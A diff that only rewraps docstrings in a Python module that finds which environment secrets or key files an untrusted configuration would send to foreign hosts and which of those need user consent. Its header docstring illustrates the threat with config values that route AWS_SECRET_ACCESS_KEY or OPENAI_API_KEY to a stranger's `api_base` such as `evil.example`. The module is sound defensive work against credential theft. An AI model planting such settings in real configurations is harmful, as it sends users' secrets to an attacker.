@@ -1,10 +1,11 @@
 """Compute which secret would travel to which host, and which of these pairs need the user's consent.
 
-A configuration that was found in the working folder may be a stranger's: `api_key: os.environ/AWS_SECRET_ACCESS_KEY` beside an `api_base` of the
-stranger's sends that variable away. So every text that a deployment sends has an `Origin`. Each secret in it makes a `Pair` with the host, unless
-the secret goes to its own provider or to this machine.
+A configuration that was found in the working folder may be a stranger's: `api_key: os.environ/AWS_SECRET_ACCESS_KEY`
+beside an `api_base` of the stranger's sends that variable away. So every text that a deployment sends has an `Origin`.
+Each secret in it makes a `Pair` with the host, unless the secret goes to its own provider or to this machine.
 
-Example: a file with `api_base: https://evil.example/v1` and no `api_key` makes the pair (OPENAI_API_KEY, evil.example) where that variable is set.
+Example: a file with `api_base: https://evil.example/v1` and no `api_key` makes the pair (OPENAI_API_KEY, evil.example)
+where that variable is set.
 
 Knows: nodes of the file, origins, hosts of the provider table. Must not know: who consents, where consent is stored.
 Invariants: pure; what is not known to be harmless counts: a new setting is sent until `LOCAL` says that it is not.
@@ -26,14 +27,16 @@ from a2py.providers import PROVIDERS, Provider
 
 
 class Pair(NamedTuple):
-    """`variable`: a variable of the environment, or the path of a file that contains keys. `host`: where it would go, as `Route.label` writes it."""
+    """`variable`: a variable of the environment, or the path of a file that contains keys. `host`: where it would go,
+    as `Route.label` writes it."""
 
     variable: str
     host: str
 
 
 class Use(NamedTuple):
-    """`place`: the deployment that makes a pair (`litellm_config.yaml:3`). `live`: it would really send, because the variable is set."""
+    """`place`: the deployment that makes a pair (`litellm_config.yaml:3`). `live`: it would really send, because the
+    variable is set."""
 
     place: str
     live: bool
@@ -144,7 +147,8 @@ _HOSTS = {
     for host in (*row.hosts, urlsplit(row.base).netloc, urlsplit(row.native).netloc)
     if host and not host.startswith((".", ":")) and not bases.loopback(urlsplit(f"//{host}").hostname or "")
 }
-#: Suffixes below which every host is the vendor's. `.volces.com` is not listed: customers rent storage and servers there.
+#: Suffixes below which every host is the vendor's. `.volces.com` is not listed: customers rent storage and servers
+#: there.
 VENDORS_ONLY = {
     ".api.openai.com": "openai",
     ".openai.azure.com": "azure",
@@ -157,7 +161,8 @@ _KEY_ENDS = re.compile(r"(_API_KEY|_TOKEN)\Z")
 
 
 def origin_of(attr: str, node: Node, env: Variables, secret_files: Mapping[str, str]) -> Origin:
-    """Return the origin of a setting's value. `secret_files`: name of a file, as marks show it, → its path, if its literal keys are secrets."""
+    """Return the origin of a setting's value. `secret_files`: name of a file, as marks show it, → its path, if its
+    literal keys are secrets."""
 
     def visit(node: Node, secret: bool) -> Origin:
         if node.env:
@@ -181,9 +186,9 @@ def _names_secret(name: str) -> bool:
 
 
 class Route(NamedTuple):
-    """The way to an upstream. `label`: host and port, and whatever makes the way less safe. `loopback`: it ends on this machine. `vendor`: the
-    provider whose own host this is, reached by verified TLS; "" for any other. `is_straight`: no setting turns verification off or changes the
-    Host header."""
+    """The way to an upstream. `label`: host and port, and whatever makes the way less safe. `loopback`: it ends on this
+    machine. `vendor`: the provider whose own host this is, reached by verified TLS; "" for any other. `is_straight`: no
+    setting turns verification off or changes the Host header."""
 
     label: str
     loopback: bool
@@ -222,8 +227,8 @@ def _find_vendor(host: str) -> str:
 
 
 class Outgoing(NamedTuple):
-    """The origins of what a deployment sends. `key`: its key; `rest`: headers, body and every other text; `base`: the address it goes to.
-    `file`: the path of the file with the entry, "" if that file belongs to the untrusted folder."""
+    """The origins of what a deployment sends. `key`: its key; `rest`: headers, body and every other text; `base`: the
+    address it goes to. `file`: the path of the file with the entry, "" if that file belongs to the untrusted folder."""
 
     key: Origin = NOWHERE
     rest: Origin = NOWHERE
@@ -232,7 +237,8 @@ class Outgoing(NamedTuple):
 
 
 def join_rest(origins: Mapping[str, Origin]) -> Origin:
-    """Return the joint origin of everything that a deployment sends besides its key. `origins`: attribute → origin; settings under `SHARED`."""
+    """Return the joint origin of everything that a deployment sends besides its key. `origins`: attribute → origin;
+    settings under `SHARED`."""
     rest = NOWHERE
     for attr, origin in origins.items():
         if attr.removeprefix(SHARED) not in LOCAL and attr not in (*_KEYS, _BASE):
@@ -246,7 +252,8 @@ def is_file(secret: str) -> bool:
 
 
 def is_owned(secret: str, vendor: str) -> bool:
-    """Return whether a secret that is sent as the key belongs to `vendor` ("" owns nothing). A file's literal key counts as the vendor's."""
+    """Return whether a secret that is sent as the key belongs to `vendor` ("" owns nothing). A file's literal key
+    counts as the vendor's."""
     row = PROVIDERS.get(vendor)
     if row is None:
         return False
@@ -274,8 +281,8 @@ def withheld_from_rest(rest: Origin, route: Route) -> frozenset[str]:
 def need_consent(outgoing: Outgoing, route: Route) -> frozenset[str]:
     """Return the secrets that an untrusted file may send along `route` only with the user's consent.
 
-    A key may go to its own provider. Any other text may not, even there: a stranger's account at that provider shows the stranger what was
-    stored for it (OpenAI's `store: true` with `metadata`)."""
+    A key may go to its own provider. Any other text may not, even there: a stranger's account at that provider shows
+    the stranger what was stored for it (OpenAI's `store: true` with `metadata`)."""
     if route.loopback:
         return frozenset()
     keys = {
@@ -296,7 +303,8 @@ def need_consent(outgoing: Outgoing, route: Route) -> frozenset[str]:
 
 
 def _is_users_pair(secret: str, outgoing: Outgoing, route: Route) -> bool:
-    """Return whether the user chose key and address together: OPENAI_API_KEY and OPENAI_BASE_URL of one environment, or one file of the user's."""
+    """Return whether the user chose key and address together: OPENAI_API_KEY and OPENAI_BASE_URL of one environment, or
+    one file of the user's."""
     if is_file(secret):
         return _is_same_file(secret, outgoing, route)
     base = outgoing.base.holds
